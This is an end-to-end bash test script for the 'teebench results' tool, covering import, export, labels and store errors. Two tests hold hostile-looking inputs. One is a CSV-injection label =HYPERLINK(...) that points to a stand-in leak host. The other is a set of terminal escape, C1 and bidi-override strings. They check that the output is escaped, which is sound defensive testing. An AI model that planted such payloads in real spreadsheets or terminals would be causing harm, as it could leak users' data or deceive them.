#!/usr/bin/env bash
# e2e: `teebench results` -- import every format (real outputs in tests/data/import),
# import twice (stored once), list/show/export (json, csv, -o), export then import
# into a second store (same id, same document), rm, two imports at once, and the bad
# inputs: an unreadable store, a foreign SQLite file, a non-SQLite file, a store of a
# newer schema, a result of schema version 2, a truncated result, unknown flags. The
# label rule ('TDX VM' allowed; a/b refused, in --label and in a file), and a result
# whose commands, versions, env facts and notes hold escape sequences, C1 and bidi
# controls: show, list, compare (text, markdown) and error lines print them escaped.
source "$(dirname "$0")/lib.sh"

SRC=${TEEBENCH_SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
D=$SRC/tests/data/import
DB=$WORK/one.db
R() { "$TB" results --db "$DB" "$@"; }
count() { "$TB" results --db "$1" list --json | grep -c '^    "id": ' || true; }

# ---- import every format ----
R import "$D/http.json" "$D/http_rate.json" "$D/syscall.json" "$D/probe.json" \
  "$D/bench_results.csv" "$D/source_results.csv" "$D/bench/20261130T191707Z" >"$WORK/imp"
[ "$(grep -c '^imported ' "$WORK/imp")" -eq 7 ] || fail "7 imports expected: $(cat "$WORK/imp")"
grep -q 'SIMULATED' "$WORK/imp" || fail "the simulated bench run is not labelled SIMULATED"
[ "$(count "$DB")" -eq 7 ] || fail "7 runs expected"
pass "import: http, syscall, probe JSON, results.csv (both styles), bench folder"

# ---- the same again: no duplicates ----
R import "$D/http.json" "$D/bench/20261130T191707Z/" >"$WORK/again"
[ "$(grep -c '^already stored ' "$WORK/again")" -eq 2 ] || fail "already stored: $(cat "$WORK/again")"
cp "$D/syscall.json" "$WORK/copy-of-syscall.json"
R import "$WORK/copy-of-syscall.json" | grep -q '^already stored ' || fail "a copy elsewhere is the same run"
[ "$(count "$DB")" -eq 7 ] || fail "re-import duplicated runs"
pass "import twice: stored once"

# ---- list / show ----
R list >"$WORK/list"
head -1 "$WORK/list" | grep -q '^ID .*STARTED (UTC).*LABEL.*METRICS.*SAMPLES' || fail "list header: $(head -1 "$WORK/list")"
[ "$(grep -c SIMULATED "$WORK/list")" -eq 1 ] || fail "list: one SIMULATED run expected"
TD_ID=$(R import --label td-1 "$D/syscall.json" | awk '/^imported/ {print $2}')
[ -n "$TD_ID" ] || fail "import with --label"
R show td-1 >"$WORK/show"
grep -q "^run *$TD_ID" "$WORK/show" || fail "show by label: $(cat "$WORK/show")"
grep -q '^syscall.c1.lps .* lps  *higher' "$WORK/show" || fail "show: metric line: $(cat "$WORK/show")"
grep -q '^env ' "$WORK/show" || fail "show: env summary"
sed -n '/^env /{n;p}' "$WORK/show" | grep -q '^tee  *none; attestation evidence none recorded$' ||
  fail "show: tee line after env: $(cat "$WORK/show")"
R show "${TD_ID:0:8}" | grep -q "^run *$TD_ID" || fail "show by id prefix"
R show "$D/probe.json" | grep -q '^probe.cpuid.ns' || fail "show FILE"
BENCH_ID=$(R list | awk '/SIMULATED/ {print $1}')
BENCH_ID=$(R show "$BENCH_ID" | awk '/^run / {print $2}')
R show "$BENCH_ID" | grep -q '^notary.tee_verify.verify_ms .* SIMULATED' || fail "show: SIMULATED metric"
R show "$BENCH_ID" | grep -q '^label .*SIMULATED' || fail "show: SIMULATED run"
R show "$BENCH_ID" | grep -q '^tee  *none; attestation evidence SIMULATED TDX quotes$' ||
  fail "show: the bench run's notary evidence: $(R show "$BENCH_ID" | grep '^tee')"
pass "list, show (label, id prefix, file, SIMULATED)"

# ---- export json / csv ----
R export "$TD_ID" >"$WORK/td.json"
R show --json "$TD_ID" | cmp -s - "$WORK/td.json" || fail "show --json and export differ"
R export "$TD_ID" "$BENCH_ID" --format csv -o "$WORK/two.csv"
R export "$TD_ID" "$BENCH_ID" >"$WORK/two.json"
python3 - "$WORK/two.csv" "$WORK/td.json" "$WORK/two.json" <<'EOF' || fail "export csv, export of two runs"
import csv, json, sys
rows = list(csv.reader(open(sys.argv[1])))
assert rows[0] == ["run_id", "label", "metric", "unit", "better", "idx", "value"], rows[0]
doc = json.load(open(sys.argv[2]))
mine = [r for r in rows[1:] if r[0] == doc["id"]]
want = [(m["name"], i, v) for m in doc["metrics"] for i, v in enumerate(m["samples"])]
assert len(mine) == len(want), (len(mine), len(want))
for r, (name, i, v) in zip(mine, want):
    assert r[2] == name and int(r[5]) == i and float(r[6]) == v, (r, name, i, v)
assert len({r[0] for r in rows[1:]}) == 2
two = json.load(open(sys.argv[3]))
assert isinstance(two, list) and [d["id"] for d in two] == [doc["id"], rows[-1][0]]
EOF
pass "export json (one, several), csv, -o"

# ---- CSV cells a spreadsheet would run: text with a leading ', numbers as numbers ----
# (the label rule keeps such a label out of new runs: the store below is one written
# before it, whose label is set by hand in the database, as an older teebench allowed)
EVIL='=HYPERLINK("http://x.example/?leak","open")'
"$TB" results --db "$WORK/evil.db" import --label evil "$D/probe.json" >/dev/null
"$TB" results --db "$WORK/evil.db" import --label other "$D/probe.json" >/dev/null
python3 -c '
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE runs SET label = ?, doc = json_set(doc, \"$.label\", ?) WHERE label = \"evil\"",
           (sys.argv[2], sys.argv[2]))
db.commit()' "$WORK/evil.db" "$EVIL" || fail "setting an old-style label"
EVIL_ID=$("$TB" results --db "$WORK/evil.db" list --json |
  python3 -c 'import json, sys; print([r["id"] for r in json.load(sys.stdin) if r["label"][0] == "="][0])')
"$TB" results --db "$WORK/evil.db" export "$EVIL_ID" --format csv -o "$WORK/evil.csv"
"$TB" compare --db "$WORK/evil.db" --format csv "$EVIL_ID" other >"$WORK/evil-compare.csv"
python3 - "$WORK/evil.csv" "$WORK/evil-compare.csv" "$EVIL" <<'EOF' || fail "CSV formula cells"
import csv, sys
evil = sys.argv[3]
rows = list(csv.reader(open(sys.argv[1])))[1:]
assert rows and all(r[1] == "'" + evil for r in rows), rows[:2]
assert all(not r[6].startswith("'") and float(r[6]) == float(r[6]) for r in rows)
cmp = list(csv.DictReader(open(sys.argv[2])))
assert any(r["environment"].startswith("'" + evil) for r in cmp), [r["environment"] for r in cmp]
for r in cmp:
    for k, v in r.items():
        assert not v or v[0] not in "=+@\t\r", (k, v)
        assert not v.startswith("-") or float(v) < 0, (k, v)  # only numbers start with -
EOF
grep -qF "\"'=HYPERLINK(\"\"http://x.example/?leak\"\",\"\"open\"\")\"" "$WORK/evil.csv" ||
  fail "the label cell: $(sed -n 2p "$WORK/evil.csv")"
pass "CSV: a label =HYPERLINK(...) is text in results export and compare --format csv"

# ---- export, import into a second store: same run ----
DB2=$WORK/two.db
for id in "$TD_ID" "$BENCH_ID"; do
  R export "$id" -o "$WORK/exp-$id.json"
  TEEBENCH_DB=$DB2 "$TB" results import "$WORK/exp-$id.json" | grep -q "^imported $id " || fail "import of an export into a second store"
  TEEBENCH_DB=$DB2 "$TB" results export "$id" | cmp -s - "$WORK/exp-$id.json" || fail "the second store gives another document for $id"
done
TEEBENCH_DB=$DB2 "$TB" results import "$WORK/exp-$TD_ID.json" | grep -q '^already stored' || fail "re-import of an export"
[ "$(count "$DB2")" -eq 2 ] || fail "second store: 2 runs expected"
pass "export then import into a second store (TEEBENCH_DB): same id, same document"

# ---- rm ----
R rm "${TD_ID:0:8}" | grep -q "^removed $TD_ID" || fail "rm by prefix"
[ "$(count "$DB")" -eq 7 ] || fail "rm: 7 runs expected"
expect_fail 1 "$TB" results --db "$DB" rm "$TD_ID"
grep -q "no run, label or file" "$WORK/err" || fail "rm of a removed run: $(cat "$WORK/err")"
expect_fail 1 "$TB" results --db "$DB" rm "$D/http.json"
pass "rm"

# ---- labels: one rule (upper case and spaces allowed), checked on import ----
R import --label 'TDX VM' "$D/probe.json" | grep -q '^imported [0-9a-f-]* TDX VM ' || fail "import --label 'TDX VM'"
R show 'TDX VM' | grep -q '^label  *TDX VM$' || fail "show 'TDX VM': $(R show 'TDX VM')"
expect_fail 2 "$TB" results --db "$DB" import --label 'a/b' "$D/probe.json"
grep -q "label a/b: want 1..63 of A-Z a-z 0-9 _ . - and space" "$WORK/err" || fail "bad --label: $(cat "$WORK/err")"
expect_fail 2 "$TB" results --db "$DB" import --label "$(printf 'x%.0s' $(seq 64))" "$D/probe.json"
sed 's/"label": "td-1"/"label": "lab\/1"/' "$WORK/td.json" >"$WORK/slash.json"
expect_fail 1 "$TB" results --db "$DB" import "$WORK/slash.json"
grep -q "slash.json: its label 'lab/1' is not valid (1..63 of .*): give one with --label" "$WORK/err" ||
  fail "a file's bad label: $(cat "$WORK/err")"
R import --label lab-1 "$WORK/slash.json" | grep -q "^imported $TD_ID lab-1 " || fail "renamed with --label"
R rm "$TD_ID" >/dev/null
pass "labels: 'TDX VM' allowed, a/b and a file's lab/1 refused (--label renames it)"

# ---- text from a result reaches no terminal raw: ESC, C1 and bidi controls escaped ----
python3 - "$WORK/td.json" "$WORK" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
work = sys.argv[2]
d["id"] = d["id"][:-4] + "e5c0"
d["label"] = "hostile"
d["commands"] = ["teebench \x1b]0;pwned\x07\x1b[2J\x1b[1;1Hclean", "ok \u009b2J \u202eevil"]
d["versions"]["nginx"] = "1.0\x1b[31m"
d["env"] = {"platform": {"value": "tdx-guest"}, "hypervisor": {"value": "KVM\x1b[2K"},
            "cpu_model": {"value": "Intel\x1b]0;cpu\x07 \u2066Xeon"}, "kernel_release": {"value": "6.8\r"}}
d["metrics"][0]["note"] = "a note \x1b[5m"
json.dump(d, open(work + "/hostile.json", "w"))
bad = dict(d, id=d["id"][:-4] + "e5c1", label="\x1b]0;label\x07")
json.dump(bad, open(work + "/esc-label.json", "w"))
bidi = dict(d, id=d["id"][:-4] + "e5c2", label="abc\u202edef")
json.dump(bidi, open(work + "/bidi-label.json", "w"))
PY
raw() { LC_ALL=C grep -c $'\x1b\|\xc2\x9b\|\xe2\x80\xae\|\xe2\x81\xa6\|\r' "$1" || true; }
R import "$WORK/hostile.json" >"$WORK/h-imp" || fail "import the hostile file"
R show hostile >"$WORK/h-show"
R show "$WORK/hostile.json" >"$WORK/h-showfile"
R list >"$WORK/h-list"
"$TB" compare --db "$DB" hostile "$WORK/hostile.json" >"$WORK/h-cmp"
"$TB" compare --db "$DB" hostile "$WORK/hostile.json" --format markdown >"$WORK/h-md"
for f in h-imp h-show h-showfile h-list h-cmp h-md; do
  [ "$(raw "$WORK/$f")" = 0 ] || fail "$f: raw control characters: $(cat -v "$WORK/$f")"
done
grep -qF 'teebench \x1b]0;pwned\x07\x1b[2J\x1b[1;1Hclean' "$WORK/h-show" || fail "show: the escaped command: $(cat -v "$WORK/h-show")"
grep -qF 'ok \u009b2J \u202eevil' "$WORK/h-show" || fail "show: C1 and bidi escaped"
grep -qF '(hypervisor KVM\x1b[2K), Intel\x1b]0;cpu\x07 \u2066Xeon' "$WORK/h-show" || fail "show: env facts escaped: $(grep ^env "$WORK/h-show")"
grep -qF 'kernel 6.8\r' "$WORK/h-show" || fail "show: a carriage return escaped"
cmp -s "$WORK/h-show" "$WORK/h-showfile" || fail "show of the file and of the stored run differ"
grep -qF 'CPU Intel\x1b]0;cpu\x07 \u2066Xeon' "$WORK/h-cmp" || fail "compare: the legend's facts escaped: $(cat -v "$WORK/h-cmp")"
grep -qF 'CPU Intel\x1b]0;cpu\x07 \u2066Xeon' "$WORK/h-md" || fail "markdown: the legend's facts escaped"
# a label with controls is not a label: refused, and the error line is escaped too
for f in esc-label bidi-label; do
  expect_fail 1 "$TB" results --db "$DB" import "$WORK/$f.json"
  grep -q '"label" must be 1..4096 characters without control characters (C0, C1, bidi)' "$WORK/err" ||
    fail "$f: $(cat -v "$WORK/err")"
done
expect_fail 1 "$TB" results --db "$DB" show $'no\x1b[2Jsuch'
[ "$(raw "$WORK/err")" = 0 ] && grep -qF 'no\x1b[2Jsuch' "$WORK/err" || fail "error line escaped: $(cat -v "$WORK/err")"
R rm hostile >/dev/null
pass "ESC, C1, bidi and CR from a result escaped in show, list, compare (text, markdown), errors"

# ---- bad inputs ----
before=$(count "$DB")
sed 's/"schema_version": 1/"schema_version": 2/' "$WORK/td.json" >"$WORK/v2.json"
expect_fail 1 "$TB" results --db "$DB" import "$WORK/v2.json"
grep -q 'schema version 2 is not supported by this teebench (reads 1)' "$WORK/err" || fail "v2: $(cat "$WORK/err")"
head -c 300 "$WORK/td.json" >"$WORK/truncated.json"
expect_fail 1 "$TB" results --db "$DB" import "$WORK/truncated.json"
grep -q 'truncated.json: not valid JSON' "$WORK/err" || fail "truncated: $(cat "$WORK/err")"
echo 'hello' >"$WORK/hello.txt"
expect_fail 1 "$TB" results --db "$DB" import "$WORK/hello.txt"
grep -q 'not a format teebench imports' "$WORK/err" || fail "text file: $(cat "$WORK/err")"
expect_fail 1 "$TB" results --db "$DB" show "$WORK/v2.json"
# good and bad together: the good ones are imported, each bad one reported, exit 1
rc=0
R import "$WORK/v2.json" "$D/probe.json" "$WORK/truncated.json" >"$WORK/out" 2>"$WORK/err" || rc=$?
[ $rc -eq 1 ] || fail "mixed import: exit $rc"
grep -q '^already stored' "$WORK/out" || fail "mixed import: the good file"
[ "$(grep -c '^teebench: results: ' "$WORK/err")" -eq 3 ] || fail "mixed import: $(cat "$WORK/err")"
[ "$(count "$DB")" -eq "$before" ] || fail "bad imports changed the store"
pass "bad result files: schema version 2, truncated, not a format; store unchanged"

# the store itself
mkdir "$WORK/dir.db"
expect_fail 1 "$TB" results --db "$WORK/dir.db" list
grep -q 'is a directory' "$WORK/err" || fail "directory as store: $(cat "$WORK/err")"
expect_fail 1 "$TB" results --db "$WORK/hello.txt/x.db" list
if [ "$(id -u)" -ne 0 ]; then
  cp "$DB" "$WORK/locked.db"; chmod 000 "$WORK/locked.db"
  expect_fail 1 "$TB" results --db "$WORK/locked.db" list
fi
cp "$DB2" "$WORK/newer.db"
python3 - "$WORK/foreign.db" "$WORK/newer.db" <<'EOF'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1]); c.execute("create table t(x)"); c.execute("insert into t values (1)"); c.commit()
c = sqlite3.connect(sys.argv[2]); c.execute("pragma user_version = 2"); c.commit()
EOF
sum=$(sha256sum "$WORK/foreign.db")
expect_fail 1 "$TB" results --db "$WORK/foreign.db" import "$D/http.json"
grep -q 'not a teebench results store (an SQLite database of another application' "$WORK/err" || fail "foreign: $(cat "$WORK/err")"
[ "$(sha256sum "$WORK/foreign.db")" = "$sum" ] || fail "the foreign database was changed"
head -c 4096 /dev/urandom >"$WORK/noise.db"
sum=$(sha256sum "$WORK/noise.db")
expect_fail 1 "$TB" results --db "$WORK/noise.db" list
grep -q 'not an SQLite database' "$WORK/err" || fail "noise: $(cat "$WORK/err")"
[ "$(sha256sum "$WORK/noise.db")" = "$sum" ] || fail "the non-SQLite file was changed"
expect_fail 1 "$TB" results --db "$WORK/newer.db" list
grep -q 'schema version 2 is newer than this teebench reads (1)' "$WORK/err" || fail "newer: $(cat "$WORK/err")"
# a file reference still works when the store cannot be opened
"$TB" results --db "$WORK/noise.db" show "$D/probe.json" | grep -q '^probe.cpuid.ns' || fail "show FILE without a store"
pass "stores refused unchanged: directory, foreign SQLite, not SQLite, newer schema"

# flags
expect_fail 2 "$TB" results --db "$DB" frobnicate
expect_fail 2 "$TB" results --db "$DB" list --bogus
expect_fail 2 "$TB" results --db "$DB" export "$BENCH_ID" --format xml
expect_fail 2 "$TB" results --db "$DB" export "$BENCH_ID" --json
expect_fail 2 "$TB" results --db "$DB" show
expect_fail 2 "$TB" results --db "$DB" import
expect_fail 2 "$TB" results list --db
"$TB" results --help | grep -q '^usage: teebench results' || fail "--help"
pass "flag errors exit 2"

# ---- two imports at once into one store ----
DB3=$WORK/three.db
mkdir "$WORK/a" "$WORK/b"
for i in $(seq 1 15); do
  for s in a b; do
    sed "s/\"id\": \"$TD_ID\"/\"id\": \"$(cat /proc/sys/kernel/random/uuid)\"/" "$WORK/td.json" >"$WORK/$s/$i.json"
  done
done
"$TB" results --db "$DB3" import "$WORK"/a/*.json >"$WORK/a.out" &
pa=$!
"$TB" results --db "$DB3" import "$WORK"/b/*.json >"$WORK/b.out" &
pb=$!
wait $pa || fail "concurrent import a"
wait $pb || fail "concurrent import b"
[ "$(count "$DB3")" -eq 30 ] || fail "concurrent imports: 30 runs expected, $(count "$DB3")"
pass "two imports at once both land"

# ---- default path: XDG_DATA_HOME ----
env -u TEEBENCH_DB XDG_DATA_HOME="$WORK/xdg" "$TB" results import "$D/syscall.json" >/dev/null
[ -f "$WORK/xdg/teebench/results.db" ] || fail "default store under XDG_DATA_HOME"
env -u TEEBENCH_DB -u XDG_DATA_HOME HOME="$WORK/home" "$TB" results list >/dev/null
[ -f "$WORK/home/.local/share/teebench/results.db" ] || fail "default store under HOME"
pass "default store path"
